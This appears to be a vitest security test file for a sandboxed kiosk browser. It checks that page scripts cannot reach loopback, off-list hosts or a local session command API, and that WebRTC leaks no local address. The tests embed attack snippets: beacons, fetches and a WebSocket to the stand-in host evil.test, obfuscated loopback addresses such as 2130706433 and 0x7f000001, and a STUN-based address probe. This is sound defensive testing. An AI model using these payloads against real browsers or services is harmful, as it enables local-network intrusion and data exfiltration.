import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { locked, type AttackedShell } from './attacked-shell.ts';

export function networkAttacks(attacked: () => AttackedShell): void {
	describe('network', () => {
		it('rows 83, 84, 90: no request of a page reaches loopback, by whatever name, or a host off the list', async () => {
			const { canary, order, shell, verdict } = attacked();
			const names = [
				'127.0.0.1',
				'localhost',
				'0.0.0.0',
				'[::1]',
				'[::ffff:127.0.0.1]',
				'127.1',
				'2130706433',
				'0x7f000001'
			];
			const addresses = [
				...names.flatMap((name) => [
					`http://${name}:${String(canary.port)}/`,
					`https://${name}:${String(canary.port)}/`
				]),
				`http://127.0.0.1:${new URL(shell.kiosk.address).port}/api/session/command`,
				...['https://evil.test/', 'http://evil.test/', 'https://kela.test/', 'https://portal.test.:443/']
			];
			const outcome = await order(
				`const all = ${JSON.stringify(addresses)};
				for (const address of [all[0], 'https://evil.test/']) { new Image().src = address; navigator.sendBeacon(address, 'x'); }
				const socket = new WebSocket('wss://evil.test/');
				const outcomes = await Promise.all(all.map((address) => fetch(address, { mode: 'no-cors' }).then(() => address, () => 'failed')));
				return outcomes.filter((outcome) => outcome !== 'failed')`
			);
			// The proxy's own refusal is an answer to plain HTTP: so the attempts did leave the page.
			const answered = outcome as readonly string[];
			expect(answered).toContain(`http://127.0.0.1:${String(canary.port)}/`);
			expect(answered.filter((address) => address.startsWith('https:') || address.includes('evil'))).toEqual([]);
			expect((await shell.demoPortal()).requests['kela.test']).toBe(0);
			expect(await verdict()).toEqual(locked);
		});

		it('row 89: WebRTC gives a page no address of this machine', async () => {
			const { order, verdict } = attacked();
			const candidates = await order(
				`const connection = new RTCPeerConnection({ iceServers: [{ urls: 'stun:evil.test:3478' }] });
				const found = [];
				connection.createDataChannel('x');
				connection.onicecandidate = (event) => event.candidate && found.push(event.candidate.candidate);
				await connection.setLocalDescription(await connection.createOffer());
				await new Promise((done) => setTimeout(done, 1000));
				return found`
			);
			expect(candidates).toEqual([]);
			expect(await verdict()).toEqual(locked);
		});

		it('rows 87, 91, 92: the browser has no network but the relay, and no debugging port', () => {
			const { pid } = attacked().portalBrowser();
			const net = (name: string) =>
				readFileSync(`/proc/${String(pid)}/net/${name}`, 'utf8')
					.trim()
					.split('\n');
			const interfaces = net('dev')
				.slice(2)
				.map((line) => line.trim().split(':')[0]);
			const listening = ['tcp', 'tcp6']
				.flatMap((name) => net(name).slice(1))
				.map((line) => line.trim().split(/\s+/))
				.filter(([, , , state]) => state === '0A')
				.map(([, local]) => local);
			// 127.0.0.1:3128, as proc(5) writes it.
			expect({ interfaces, listening }).toEqual({ interfaces: ['lo'], listening: ['0100007F:0C38'] });
		});
	});
}
